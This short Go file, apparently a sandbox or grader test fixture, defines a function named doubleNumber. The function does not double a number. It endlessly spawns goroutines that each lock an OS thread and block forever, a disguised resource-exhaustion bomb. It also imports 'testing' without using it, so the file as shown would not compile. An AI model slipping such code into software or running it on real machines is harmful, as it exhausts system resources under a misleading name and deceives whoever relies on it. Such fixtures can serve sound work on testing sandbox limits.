package main

import (
	"runtime"
	"testing"
)

func doubleNumber(n int) int {
	started := make(chan bool)
	for {
		go func() {
			runtime.LockOSThread()
			started <- true
			select {}
		}()
		<-started
	}
}
